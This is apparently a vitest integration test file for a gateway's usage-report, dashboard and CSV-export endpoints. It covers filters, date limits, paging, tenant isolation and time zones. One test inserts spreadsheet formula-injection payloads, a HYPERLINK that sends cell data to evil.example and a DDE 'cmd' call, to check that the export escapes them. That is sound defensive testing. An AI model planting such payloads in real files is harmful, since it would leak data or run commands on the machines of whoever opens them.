import { createAudit } from '../../platform/audit.js';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import type { Pool } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, REPORT_CSV_COLUMNS, REPORT_CSV_TOTAL_HEADER, todayIn, type ReportRow } from '@verigate/contracts';
import { apps } from '../../db/schema.js';
import { createTestServer, type TestServer } from '../../test/harness.js';
import { testCustomer, type Customer } from '../../test/gateway-support.js';
import { csvBatches } from './report.js';

/**
 * The reports and dashboard reads over a fixture of calls written straight to `transactions`
 * (their rollups rebuilt from them, as a bulk load's are): every filter, the date rules, paging,
 * tenant isolation, the CSV export and the dashboard figures, each checked against a direct
 * count of the rows.
 */

const IST = 'Asia/Kolkata';
const ARNS = ['in_identity_pan_lite', 'in_identity_aadhaar_lite', 'in_vehicle_rc_lite'];
const FIXTURE_CALLS = 700;

let server: TestServer;
let a: Customer & { secondAppId: string };
let b: Customer;
let today: string;

/**
 * `count` calls of the organisation, one every 2 h 17 min back from now (about 66 days): the app,
 * product, environment, status and charge alternate on different cycles, so every filter and
 * every pair of filters selects a different, non-empty part.
 */
async function insertCalls(orgId: string, appIds: string[], count: number, now: Date) {
  await server.db.execute(sql`
    insert into transactions (id, organisation_id, app_id, product_arn, product_version, env, task_id, group_id,
      request_timestamp, response_timestamp, http_status, response_code, status, billable, client_ip, message, test_credit)
    select gen_random_uuid(), ${orgId}::uuid, (${`{${appIds.join(',')}}`}::uuid[])[1 + i % ${appIds.length}], (${`{${ARNS.join(',')}}`}::text[])[1 + i % 3], 'v1',
      case when (i / 2) % 2 = 0 then 'TEST' else 'PRODUCTION' end, gen_random_uuid(), gen_random_uuid(),
      ${now}::timestamptz - i * interval '137 minutes', ${now}::timestamptz - i * interval '137 minutes' + interval '250 milliseconds',
      200, case when i % 5 = 0 then 106 else 100 end, case when i % 5 = 0 then 'FAILURE' else 'SUCCESS' end,
      i % 7 <> 0, '10.0.0.' || (i % 250), 'fixture', (i / 2) % 2 = 0
    from generate_series(0, ${count - 1}) as i`);
}

async function directCount(where: ReturnType<typeof sql>): Promise<number> {
  const result = await server.db.execute<{ total: string }>(sql`select count(*) as total from transactions where ${where}`);
  return Number(result.rows[0]!.total);
}

const reportUrl = (orgId: string, params: Record<string, string | number>) =>
  `/api/organisation/${orgId}?${new URLSearchParams({ action: 'get_org_csv_usage_reports', ...Object.fromEntries(Object.entries(params).map(([k, v]) => [k, String(v)])) })}`;

async function report(params: Record<string, string | number>, customer: Customer = a) {
  return server.request('GET', reportUrl(customer.orgId, params), { token: customer.token });
}

/** Every row of a report, page after page. */
async function allPages(params: Record<string, string | number>): Promise<ReportRow[]> {
  const rows: ReportRow[] = [];
  for (let page = 1; ; page += 1) {
    const reply = await report({ ...params, page_no: page });
    expect(reply.status).toBe(200);
    rows.push(...reply.body.data.data.rows);
    if (page >= reply.body.data.data.total_pages) return rows;
  }
}

beforeAll(async () => {
  server = await createTestServer({ ADMIN_TOKEN: 'operator-tests-admin-token-0123456789' });
  const first = await testCustomer(server, 'qa@verigate-test.io', ['in_identity_pan_lite']);
  const [second] = await server.db.insert(apps).values({ organisationId: first.orgId, name: 'Second', isTestApp: false }).returning();
  a = { ...first, secondAppId: second!.id };
  b = await testCustomer(server, 'qa2@verigate-test.io', ['in_identity_pan_lite']);
  const now = server.clock.now();
  today = todayIn(IST, now);
  await insertCalls(a.orgId, [a.appId, a.secondAppId], FIXTURE_CALLS, now);
  await insertCalls(b.orgId, [b.appId], 300, now);
  // Rows written past the gateway have no rollups until they are rebuilt from the rows, as after a bulk load.
  for (const orgId of [a.orgId, b.orgId]) {
    const reply = await server.request('GET', `/api/organisation/${orgId}?action=get_org_total_transaction_counts`, {
      token: orgId === a.orgId ? a.token : b.token,
    });
    expect(reply.body.data.total_count).toBe(0);
  }
  await rebuild(a.orgId);
  await rebuild(b.orgId);
}, 120_000);

afterAll(async () => {
  await server?.close();
});

async function rebuild(orgId: string) {
  const { createUsageService } = await import('./service.js');
  const jobs = { define: async () => {}, work: async () => {}, schedule: async () => {}, send: async () => {}, running: () => true, stop: async () => {} };
  await createUsageService({ db: server.db, clock: server.clock, jobs, audit: createAudit(server.db) }).rebuildRollups(orgId);
}

const last60 = () => ({ start_date: addDays(today, -60), end_date: today });

describe('report filters', () => {
  it('answers the first page newest first with the total of the range', async () => {
    const reply = await report(last60());
    expect(reply.status).toBe(200);
    const { message, data } = reply.body.data;
    const expected = await directCount(
      sql`organisation_id = ${a.orgId}::uuid and request_timestamp >= ${new Date(`${addDays(today, -60)}T00:00:00+05:30`)} and request_timestamp < ${new Date(`${addDays(today, 1)}T00:00:00+05:30`)}`,
    );
    expect(expected).toBeGreaterThan(600);
    expect(message).toBe('Records fetched');
    expect(data.total).toBe(expected);
    expect(data.rows).toHaveLength(50);
    expect(data.total_pages).toBe(Math.ceil(expected / 50));
    const times = data.rows.map((row: ReportRow) => row.request_timestamp);
    expect([...times].sort().reverse()).toEqual(times);
    expect(times[0]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+05:30$/);
    expect(Object.keys(data.rows[0]).sort()).toEqual([...REPORT_CSV_COLUMNS].sort());
  });

  const filters: Array<[string, Record<string, string>, (row: ReportRow) => boolean, () => ReturnType<typeof sql>]> = [
    ['product', { product_arn: 'in_vehicle_rc_lite' }, (row) => row.product === 'in_vehicle_rc_lite', () => sql`product_arn = 'in_vehicle_rc_lite'`],
    ['app', {}, () => true, () => sql`true`],
    ['status', { txn_status: 'FAILURE' }, (row) => row.status === 'FAILURE', () => sql`status = 'FAILURE'`],
    ['environment', { env: 'PRODUCTION' }, (row) => row.env === 'PRODUCTION', () => sql`env = 'PRODUCTION'`],
    ['charge type', { charge_type: 'NON_BILLABLE' }, () => true, () => sql`not billable`],
  ];

  for (const [name, params, holds, clause] of filters) {
    it(`filters by ${name} alone`, async () => {
      const extra = name === 'app' ? { app_id: a.secondAppId } : params;
      const reply = await report({ ...last60(), ...extra });
      expect(reply.status).toBe(200);
      const { data } = reply.body.data;
      const range = sql`request_timestamp >= ${new Date(`${addDays(today, -60)}T00:00:00+05:30`)}`;
      const appClause = name === 'app' ? sql`app_id = ${a.secondAppId}::uuid` : clause();
      const expected = await directCount(sql`organisation_id = ${a.orgId}::uuid and ${range} and ${appClause}`);
      expect(expected).toBeGreaterThan(0);
      expect(data.total).toBe(expected);
      expect(data.rows.length).toBe(Math.min(50, expected));
      expect(data.rows.every(holds)).toBe(true);
      if (name === 'app') expect(data.rows.every((row: ReportRow) => row.app_id === a.secondAppId)).toBe(true);
    });
  }

  it('combines every filter, and several products at once', async () => {
    const reply = await report({
      ...last60(),
      product_arn: 'in_identity_pan_lite',
      app_id: a.appId,
      env: 'TEST',
      txn_status: 'SUCCESS',
      charge_type: 'BILLABLE',
    });
    const expected = await directCount(
      sql`organisation_id = ${a.orgId}::uuid and request_timestamp >= ${new Date(`${addDays(today, -60)}T00:00:00+05:30`)}
        and product_arn = 'in_identity_pan_lite' and app_id = ${a.appId}::uuid and env = 'TEST' and status = 'SUCCESS' and billable`,
    );
    expect(expected).toBeGreaterThan(0);
    expect(reply.body.data.data.total).toBe(expected);
    expect(
      reply.body.data.data.rows.every(
        (row: ReportRow) => row.product === 'in_identity_pan_lite' && row.app_id === a.appId && row.env === 'TEST' && row.status === 'SUCCESS',
      ),
    ).toBe(true);

    const several = await report({ ...last60(), product_arn: 'in_identity_pan_lite,in_vehicle_rc_lite', txn_status: 'FAILURE', charge_type: 'NON_BILLABLE' });
    const expectedSeveral = await directCount(
      sql`organisation_id = ${a.orgId}::uuid and request_timestamp >= ${new Date(`${addDays(today, -60)}T00:00:00+05:30`)}
        and product_arn in ('in_identity_pan_lite', 'in_vehicle_rc_lite') and status = 'FAILURE' and not billable`,
    );
    expect(expectedSeveral).toBeGreaterThan(0);
    expect(several.body.data.data.total).toBe(expectedSeveral);
  });

  it('finds a call by its request id, task id or group id, without dates', async () => {
    const [row] = (
      await server.db.execute<{ id: string; task_id: string; group_id: string }>(
        sql`select id, task_id, group_id from transactions where organisation_id = ${a.orgId}::uuid order by request_timestamp desc limit 1 offset 400`,
      )
    ).rows;
    for (const id of [row!.id, row!.task_id, row!.group_id]) {
      const reply = await report({ id });
      expect(reply.status).toBe(200);
      expect(reply.body.data.data.total).toBe(1);
      expect(reply.body.data.data.rows[0].id).toBe(row!.id);
    }
  });

  it('counts whole days in another zone exactly, part-days at both ends included', async () => {
    const range = { start_date: addDays(today, -30), end_date: addDays(today, -1) };
    for (const tz of ['UTC', 'America/New_York', 'Asia/Kathmandu']) {
      const reply = await report({ ...range, tz, txn_status: 'SUCCESS' });
      expect(reply.status).toBe(200);
      const from = reply.body.data.data.rows.length > 0 ? reply.body.data.data.rows[0].request_timestamp : '';
      if (tz === 'UTC') expect(from).toMatch(/\+00:00$/);
      const [row] = (
        await server.db.execute<{ total: string }>(
          sql`select count(*) as total from transactions where organisation_id = ${a.orgId}::uuid and status = 'SUCCESS'
            and request_timestamp >= (${range.start_date}::date::timestamp at time zone ${tz})
            and request_timestamp < (${addDays(range.end_date, 1)}::date::timestamp at time zone ${tz})`,
        )
      ).rows;
      expect(reply.body.data.data.total).toBe(Number(row!.total));
    }
  });

  it('answers No records found! for a filter that matches nothing', async () => {
    const reply = await report({ ...last60(), product_arn: 'in_contract_estamp_lite' });
    expect(reply.status).toBe(200);
    expect(reply.body.data).toMatchObject({ message: 'No records found!', data: { rows: [], total: 0, total_pages: 0 } });
  });
});

describe('paging', () => {
  it('opens page 2 with the next 50 rows and refuses a page past 100', async () => {
    const first = await report({ ...last60(), per_page: 25 });
    const second = await report({ ...last60(), per_page: 25, page_no: 2 });
    const both = await report({ ...last60(), per_page: 50 });
    expect([...first.body.data.data.rows, ...second.body.data.data.rows]).toEqual(both.body.data.data.rows);

    const hundredth = await report({ ...last60(), page_no: 100 });
    expect(hundredth.status).toBe(200);
    expect(hundredth.body.data.data.rows).toEqual([]);
    const past = await report({ ...last60(), page_no: 101 });
    expect(past.status).toBe(400);
    expect(past.body.err.message).toBe('Reports show at most 100 pages; narrow the filters to see more');
  });
});

describe('date rules', () => {
  it('needs a duration, and holds 60 days, order, 1 Jan 2020 and today at their limits', async () => {
    const cases: Array<[Record<string, string>, number, string?]> = [
      [{}, 400, 'Duration is mandatory'],
      [{ start_date: today }, 400, 'Duration is mandatory'],
      [{ start_date: addDays(today, -60), end_date: today }, 200],
      [{ start_date: addDays(today, -61), end_date: today }, 400, 'Max difference between dates should be 60 days'],
      [{ start_date: today, end_date: addDays(today, -1) }, 400, 'End date cannot be before start date'],
      [{ start_date: today, end_date: today }, 200],
      [{ start_date: addDays(today, 1), end_date: addDays(today, 1) }, 400, 'Dates cannot be after today'],
      [{ start_date: '2020-01-01', end_date: '2020-02-01' }, 200],
      [{ start_date: '2019-12-31', end_date: '2020-01-01' }, 400, 'Dates cannot be before 1 Jan 2020'],
    ];
    for (const [params, status, message] of cases) {
      const reply = await report(params);
      expect({ params, status: reply.status }).toEqual({ params, status });
      if (message) expect(reply.body.err.message).toBe(message);
    }
  });
});

describe('malformed input', () => {
  it('answers 400 with a message, never a 500', async () => {
    const range = last60();
    const bad: Array<Record<string, string>> = [
      { ...range, page_no: 'abc' },
      { ...range, page_no: '0' },
      { ...range, page_no: '-1' },
      { ...range, per_page: '0' },
      { ...range, per_page: '51' },
      { ...range, app_id: 'not-an-id' },
      { ...range, env: 'LIVE' },
      { ...range, txn_status: 'ok' },
      { ...range, charge_type: 'FREE' },
      { start_date: '2026-13-01', end_date: '2026-13-02' },
      { start_date: '01/02/2026', end_date: '02/02/2026' },
      { ...range, tz: 'Mars/Olympus_Mons' },
      { ...range, colour: 'red' },
      { id: 'abc' },
      { ...range, product_arn: ',,' },
    ];
    for (const params of bad) {
      const reply = await report(params);
      expect({ params, status: reply.status }).toEqual({ params, status: 400 });
      expect(reply.body.err.message.length).toBeGreaterThan(0);
    }
    const unknown = await server.request('GET', `/api/organisation/${a.orgId}?action=get_org_everything`, { token: a.token });
    expect(unknown.status).toBe(400);
    const strictStill = await server.request('GET', `/api/organisation/${a.orgId}?action=get_org_plan_info&page_no=2`, { token: a.token });
    expect(strictStill.status).toBe(400);
    const csv = await server.request('GET', `/api/organisation/${a.orgId}/usage-report.csv?start_date=x&end_date=y`, { token: a.token });
    expect(csv.status).toBe(400);
    expect(csv.body.err.message).toBe('Dates must be calendar dates (YYYY-MM-DD)');
  });
});

describe('tenant isolation', () => {
  it("never shows another organisation's rows, whatever the parameter names", async () => {
    const [other] = (
      await server.db.execute<{ id: string; task_id: string; group_id: string }>(
        sql`select id, task_id, group_id from transactions where organisation_id = ${b.orgId}::uuid limit 1`,
      )
    ).rows;
    for (const id of [other!.id, other!.task_id, other!.group_id]) {
      const reply = await report({ id });
      expect(reply.status).toBe(200);
      expect(reply.body.data.data).toMatchObject({ rows: [], total: 0 });
    }
    const byApp = await report({ ...last60(), app_id: b.appId });
    expect(byApp.body.data.data).toMatchObject({ rows: [], total: 0 });
    const stats = await server.request(
      'GET',
      `/api/organisation/${a.orgId}?action=get_org_transaction_stats&app_id=${b.appId}&start_date=${addDays(today, -30)}&end_date=${today}`,
      {
        token: a.token,
      },
    );
    expect(stats.body.data.stats).toEqual([]);
    const shared = await report({ ...last60(), product_arn: 'in_identity_pan_lite' });
    const sharedCount = await directCount(
      sql`organisation_id = ${a.orgId}::uuid and product_arn = 'in_identity_pan_lite' and request_timestamp >= ${new Date(`${addDays(today, -60)}T00:00:00+05:30`)}`,
    );
    expect(shared.body.data.data.total).toBe(sharedCount);
    const aApps = new Set([a.appId, a.secondAppId]);
    expect(shared.body.data.data.rows.every((row: ReportRow) => aApps.has(row.app_id!))).toBe(true);

    // Another organisation's reports, chart and export: not found for a non-member.
    for (const url of [
      reportUrl(b.orgId, last60()),
      `/api/organisation/${b.orgId}?action=get_org_total_transaction_counts`,
      `/api/organisation/${b.orgId}/usage-report.csv?start_date=${addDays(today, -5)}&end_date=${today}`,
    ]) {
      const reply = await server.request('GET', url, { token: a.token });
      expect(reply.status).toBe(404);
    }
    const anonymous = await server.request('GET', reportUrl(a.orgId, last60()));
    expect(anonymous.status).toBe(401);
  });
});

describe('CSV export', () => {
  const csvUrl = (params: Record<string, string | number>) =>
    `/api/organisation/${a.orgId}/usage-report.csv?${new URLSearchParams(Object.fromEntries(Object.entries(params).map(([k, v]) => [k, String(v)])))}`;

  it('streams the whole result, equal to the pages joined, times in the zone with their offset', async () => {
    const params = { start_date: addDays(today, -20), end_date: today, env: 'TEST', tz: 'Asia/Kolkata' };
    const pages = await allPages(params);
    expect(pages.length).toBeGreaterThan(50);
    const reply = await server.app.inject({ method: 'GET', url: csvUrl(params), headers: { authorization: `Bearer ${a.token}` } });
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(reply.headers['content-disposition']).toMatch(/^attachment; filename="usage-report-.*\.csv"$/);
    expect(Number(reply.headers[REPORT_CSV_TOTAL_HEADER])).toBe(pages.length);
    const [header, ...records] = parse(reply.body) as string[][];
    expect(header).toEqual(REPORT_CSV_COLUMNS);
    const asCsv = (row: ReportRow) => REPORT_CSV_COLUMNS.map((column) => (row[column] === null ? '' : String(row[column])));
    expect(records).toEqual(pages.map(asCsv));
    expect(records[0]![3]).toMatch(/\+05:30$/);
  });

  it('exports one page, and a zone other than India', async () => {
    // London's today, which is India's yesterday from 18:30 to midnight UTC.
    const londonToday = todayIn('Europe/London', server.clock.now());
    const params = { start_date: addDays(londonToday, -20), end_date: londonToday, tz: 'Europe/London', page_no: 2 };
    const page = await report(params);
    const reply = await server.app.inject({ method: 'GET', url: csvUrl({ ...params, scope: 'page' }), headers: { authorization: `Bearer ${a.token}` } });
    expect(reply.statusCode, reply.body).toBe(200);
    const [, ...records] = parse(reply.body) as string[][];
    expect(records.map((record) => record[0])).toEqual(page.body.data.data.rows.map((row: ReportRow) => row.id));
    expect(records).toHaveLength(50);
    expect(records[0]![3]).toMatch(/\+00:00$/);
    expect(reply.headers[REPORT_CSV_TOTAL_HEADER]).toBe('50');
  });

  it('quotes a called path that holds a comma or a quote, and writes offsets west of UTC', async () => {
    const odd = 'in_odd,"quoted"_arn';
    await server.db.execute(sql`
      insert into transactions (id, organisation_id, app_id, product_arn, product_version, env, task_id, group_id,
        request_timestamp, response_timestamp, http_status, response_code, status, billable, client_ip, message)
      values (gen_random_uuid(), ${a.orgId}::uuid, null, ${odd}, 'v1', 'TEST', gen_random_uuid(), gen_random_uuid(),
        ${new Date(`${today}T06:00:00.5+05:30`)}, ${new Date(`${today}T06:00:01+05:30`)}, 401, null, 'FAILURE', false, '::1', 'odd')`);
    await rebuild(a.orgId);
    const reply = await server.app.inject({
      method: 'GET',
      url: `/api/organisation/${a.orgId}/usage-report.csv?${new URLSearchParams({ start_date: addDays(today, -1), end_date: addDays(today, -1), tz: 'America/New_York', txn_status: 'FAILURE', env: 'TEST' })}`,
      headers: { authorization: `Bearer ${a.token}` },
    });
    const records = parse(reply.body, { columns: true }) as Array<Record<string, string>>;
    const row = records.find((record) => record.product === odd);
    expect(row).toMatchObject({ product: odd, response_code: '', app_id: '', client_ip: '::1' });
    expect(row!.request_timestamp).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:30:00\.500-0[45]:00$/);
  });

  it('writes a called path that could start a spreadsheet formula as text after an apostrophe; the JSON report returns it as called', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', '+1+1', '-2+3', '@SUM(1)', "=cmd|' /C calc'!A0", '\tSUM(1)'];
    const c = await testCustomer(server, 'qa3@verigate-test.io', ['in_identity_pan_lite']);
    for (const [index, payload] of payloads.entries()) {
      await server.db.execute(sql`
        insert into transactions (id, organisation_id, app_id, product_arn, product_version, env, task_id, group_id,
          request_timestamp, response_timestamp, http_status, response_code, status, billable, client_ip, message)
        values (gen_random_uuid(), ${c.orgId}::uuid, ${c.appId}::uuid, ${payload}, 'v1', 'TEST', gen_random_uuid(), gen_random_uuid(),
          ${new Date(`${today}T00:10:0${index}+05:30`)}, ${new Date(`${today}T00:10:0${index}.2+05:30`)}, 404, 106, 'FAILURE', false, '203.0.113.9', 'formula')`);
    }
    await rebuild(c.orgId);
    const params = { start_date: today, end_date: today, tz: IST };
    for (const scope of ['all', 'page']) {
      const reply = await server.app.inject({
        method: 'GET',
        url: `/api/organisation/${c.orgId}/usage-report.csv?${new URLSearchParams({ ...params, scope })}`,
        headers: { authorization: `Bearer ${c.token}` },
      });
      const [, ...records] = parse(reply.body) as string[][];
      expect(records).toHaveLength(payloads.length);
      for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(records.map((record) => record[1]).sort()).toEqual(payloads.map((payload) => `'${payload}`).sort());
      expect(records.map((record) => record[5])).toEqual(payloads.map(() => '106'));
    }
    const json = await report(params, c);
    expect(json.body.data.data.rows.map((row: ReportRow) => row.product).sort()).toEqual([...payloads].sort());
  });

  it('reads the rows in keyset batches that join up exactly', async () => {
    const filter = { env: 'PRODUCTION' as const };
    const range = { from: new Date(`${addDays(today, -60)}T00:00:00+05:30`), to: new Date(`${addDays(today, 1)}T00:00:00+05:30`) };
    const pool = (server.db as unknown as { $client: Pool }).$client;
    const batches: number[] = [];
    const ids: string[] = [];
    for await (const batch of csvBatches(pool, a.orgId, filter, range, IST, 64)) {
      const lines = batch.trimEnd().split('\n');
      batches.push(lines.length);
      ids.push(...lines.map((line) => line.split(',')[0]!));
    }
    const pages = await allPages({ start_date: addDays(today, -60), end_date: today, env: 'PRODUCTION' });
    expect(batches.length).toBeGreaterThan(3);
    expect(batches.slice(0, -1).every((size) => size === 64)).toBe(true);
    expect(ids).toEqual(pages.map((row) => row.id));
  });
});

describe('dashboard', () => {
  const dashboard = (action: string, params: Record<string, string> = {}) =>
    server.request('GET', `/api/organisation/${a.orgId}?${new URLSearchParams({ action, ...params })}`, { token: a.token });

  it('charts calls per India day over up to 120 days, with the previous period and how fresh it is', async () => {
    const range = { start_date: addDays(today, -29), end_date: today };
    const reply = await dashboard('get_org_product_usage', range);
    expect(reply.status).toBe(200);
    const { usage, total, previous_total, as_of, time_zone } = reply.body.data;
    expect(usage).toHaveLength(30);
    expect(time_zone).toBe(IST);
    expect(Date.parse(as_of)).toBe(server.clock.now().getTime());
    const perDay = (
      await server.db.execute<{ day: string; calls: string }>(
        sql`select to_char((request_timestamp at time zone 'Asia/Kolkata')::date, 'YYYY-MM-DD') as day, count(*) as calls
          from transactions where organisation_id = ${a.orgId}::uuid group by 1`,
      )
    ).rows;
    const calls = new Map(perDay.map((row) => [row.day, Number(row.calls)]));
    expect(usage).toEqual(usage.map((point: { date: string }) => ({ date: point.date, transaction_count: calls.get(point.date) ?? 0 })));
    expect(total).toBe(usage.reduce((sum: number, point: { transaction_count: number }) => sum + point.transaction_count, 0));
    let previous = 0;
    for (let day = addDays(today, -59); day <= addDays(today, -30); day = addDays(day, 1)) previous += calls.get(day) ?? 0;
    expect(previous_total).toBe(previous);
    expect(previous).toBeGreaterThan(0);

    const product = await dashboard('get_org_product_usage', { ...range, arn: 'in_vehicle_rc_lite' });
    expect(product.body.data.total).toBe(
      await directCount(
        sql`organisation_id = ${a.orgId}::uuid and product_arn = 'in_vehicle_rc_lite' and request_timestamp >= ${new Date(`${range.start_date}T00:00:00+05:30`)}`,
      ),
    );
    expect((await dashboard('get_org_product_usage', { start_date: addDays(today, -120), end_date: today })).status).toBe(200);
    const tooLong = await dashboard('get_org_product_usage', { start_date: addDays(today, -121), end_date: today });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.err.message).toBe('Max difference between dates should be 120 days');
    expect((await dashboard('get_org_product_usage')).body.err.message).toBe('Duration is mandatory');
  });

  it('counts per product: test credits, billable, success and failure, by app and environment', async () => {
    const range = { start_date: addDays(today, -45), end_date: today };
    const since = new Date(`${range.start_date}T00:00:00+05:30`);
    const expectedRows = async (extra: ReturnType<typeof sql>) =>
      (
        await server.db.execute<Record<string, string>>(
          sql`select product_arn, count(*) filter (where test_credit) as test_credits, count(*) filter (where billable) as billable,
            count(*) filter (where status = 'SUCCESS') as success, count(*) filter (where status <> 'SUCCESS') as failure
            from transactions where organisation_id = ${a.orgId}::uuid and request_timestamp >= ${since} and ${extra}
            group by product_arn order by product_arn`,
        )
      ).rows.map((row) => ({
        product_arn: row.product_arn,
        test_credits: Number(row.test_credits),
        billable_txn_count: Number(row.billable),
        success_txn_count: Number(row.success),
        failure_txn_count: Number(row.failure),
      }));
    const all = await dashboard('get_org_transaction_stats', range);
    expect(all.body.data.stats.map(({ product_name: _name, ...row }: Record<string, unknown>) => row)).toEqual(await expectedRows(sql`true`));
    expect(all.body.data.stats.map((row: { product_name: string }) => row.product_name)).toContain('PAN Lite');
    const filtered = await dashboard('get_org_transaction_stats', { ...range, app_id: a.secondAppId, env: 'PRODUCTION' });
    expect(filtered.body.data.stats.map(({ product_name: _name, ...row }: Record<string, unknown>) => row)).toEqual(
      await expectedRows(sql`app_id = ${a.secondAppId}::uuid and env = 'PRODUCTION'`),
    );
  });

  it('totals every call of the organisation', async () => {
    const reply = await dashboard('get_org_total_transaction_counts');
    expect(reply.body.data.total_count).toBe(await directCount(sql`organisation_id = ${a.orgId}::uuid`));
    expect(reply.body.data.total_count).toBeGreaterThanOrEqual(FIXTURE_CALLS);
  });
});

describe('today', () => {
  it("is today in the report's zone", async () => {
    // At 20:00 UTC it is already tomorrow in India: India's today is a day after UTC's.
    const now = server.clock.now().getTime();
    const day = 86_400_000;
    server.clock.advance((20 * 3_600_000 - (now % day) + day) % day);
    const indiaToday = todayIn(IST, server.clock.now());
    expect(indiaToday).toBe(addDays(todayIn('UTC', server.clock.now()), 1));
    // The session went idle while the clock moved: sign in again.
    a.token = (await server.login('qa@verigate-test.io')).body.data.token;
    expect((await report({ start_date: indiaToday, end_date: indiaToday })).status).toBe(200);
    const utc = await report({ start_date: indiaToday, end_date: indiaToday, tz: 'UTC' });
    expect(utc.status).toBe(400);
    expect(utc.body.err.message).toBe('Dates cannot be after today');
  });
});
